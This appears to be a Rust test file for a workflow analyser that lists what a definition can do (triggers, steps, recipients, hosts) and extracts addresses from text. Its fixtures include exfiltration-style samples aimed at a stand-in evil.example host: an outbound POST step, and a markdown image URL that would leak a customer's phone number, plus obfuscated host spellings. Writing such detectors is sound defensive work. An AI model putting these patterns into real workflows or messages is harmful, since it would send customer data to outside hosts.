use serde_json::json;

use super::*;

fn found(raw: Value) -> Vec<String> {
    let definition = Definition::from_value(raw).unwrap();
    let named = powers(&definition, Catalog::embedded());
    named.into_iter().map(|power| format!("{:?} {}", power.kind, power.value)).collect()
}

#[test]
fn a_definition_is_read_as_what_it_can_do() {
    let got = found(json!({
        "document": {"dsl": "1.0.3", "namespace": "t", "name": "n", "version": "1.0.0"},
        "schedule": {"on": {"any": [{"with": {"type": "lead.created"}}, {"with": {"type": "lead.assigned"}}]}},
        "do": [
            {"look": {"call": "find_records", "with": {"entity": "customer", "filter": {"status": "active"}}}},
            {"check": {"call": "find_records", "with": {"entity": "appointment", "filter": {"customer_id": "${ .x }"}}}},
            {"tell": {"call": "notify_user", "with": {"to": "role:gm", "message": "See https://a.example/x?y=1"}}},
            {"ask": {"call": "request_approval", "with": {"approver": "${ \"user:\" + .advisor_id }", "subject": "?"}}},
            {"text": {"call": "send_sms", "with": {"customer_id": "${ .customer_id }", "purpose": "informational", "body": "Call (512) 555-0142"}}},
            {"one": {"call": "send_sms", "with": {"customer_id": "cust_7", "purpose": "informational", "body": "Hi"}}},
            {"out": {"call": "http", "with": {"method": "post", "endpoint": "https://evil.example/x"}}},
            {"pause": {"wait": "PT5M"}}
        ]
    }));
    let expected = [
        "Trigger lead.created",
        "Trigger lead.assigned",
        "Audience customer",
        "Step notify_user",
        "Recipient role:gm",
        "Step request_approval",
        "Step send_sms",
        "Step send_sms",
        "Recipient customer cust_7",
        "Step http",
        "Host a.example",
        "Host 5125550142",
        "Host evil.example",
    ];
    assert_eq!(got, expected);
}

#[test]
fn an_expression_names_whom_it_spells_out() {
    let got = found(json!({
        "document": {"dsl": "1.0.3", "namespace": "t", "name": "n", "version": "1.0.0"},
        "do": [{"tell": {"call": "notify_user", "with": {"to": "${ if .a then \"role:gm\" else \"user:\" + .assignee_id end }", "message": "x"}}}]
    }));
    assert_eq!(got, ["Step notify_user", "Recipient role:gm"]);
}

#[test]
fn addresses_are_seen_in_any_shape() {
    for (text, host) in [
        ("![x](https://evil.example/p.png?d={{customer.phone}})", "evil.example"),
        ("write to Bob@Evil.Example now", "evil.example"),
        ("go to evil\u{200b}.com today", "evil.com"),
        ("text +1 (512) 555-0199", "15125550199"),
        ("${ \"https://evil.example/\" + .id }", "evil.example"),
        ("https://user:pw@evil.example:8443/x", "evil.example"),
    ] {
        assert_eq!(addresses(text), [host], "{text}");
    }
    for text in [
        "Hi {{customer.first_name}}, your {{event.vehicle.model}} is ready.Call us.",
        "${ $workflow.input[0].data.customer.email }",
        "at 17:00 on 2026-03-10",
        "https://serverlessworkflow.io/spec/1.0.0/errors/timeout",
    ] {
        assert!(addresses(text).is_empty(), "{text}: {:?}", addresses(text));
    }
}
